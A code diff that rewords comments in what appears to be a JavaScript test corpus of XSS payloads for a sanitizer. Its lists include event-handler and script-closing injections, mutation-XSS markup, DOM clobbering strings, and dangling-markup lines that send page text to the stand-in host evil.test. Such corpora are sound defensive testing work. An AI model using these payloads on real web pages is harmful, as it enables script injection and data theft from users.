@@ -1,4 +1,4 @@
-/** Code that says so when it runs, without a quote that would end the attribute around it. */
+/** Code that signals that it ran, without a quote that would close the attribute around it. */
 const run = 'window.__xss=1,alert(1)';
 
 const handlers = [
@@ -115,7 +115,7 @@ const foreign = [
   `<math><annotation-xml encoding=text/html><img src=x onerror=${run}></annotation-xml></math>`,
 ];
 
-/** Becomes something else when it is parsed, written and parsed again. */
+/** Markup that changes when it is parsed, serialised and parsed again. */
 const mutations = [
   `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
   `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mtext></math>`,
@@ -147,7 +147,7 @@ const mutations = [
   `${'<b>'.repeat(600)}<img src=x onerror=${run}>`,
 ];
 
-/** Swallows what follows, or takes the place of what scripts look for. */
+/** Markup that swallows the text after it, or shadows what scripts look for. */
 const dangling = [
   `<img src='//evil.test/?`,
   `<a href='//evil.test/?`,
@@ -167,7 +167,10 @@ const dangling = [
   `<b is=clobbered-x id=__proto__>x</b>`,
 ];
 
-/** What ends strings, lines, scripts and comments around it, and what reads differently from what it is. */
+/**
+ * Text that closes the string, line, script or comment around it, or that looks different from what
+ * it is.
+ */
 const ends = [
   `</script><script>${run}</script>`,
   `</SCRIPT ><script>${run}</script>`,
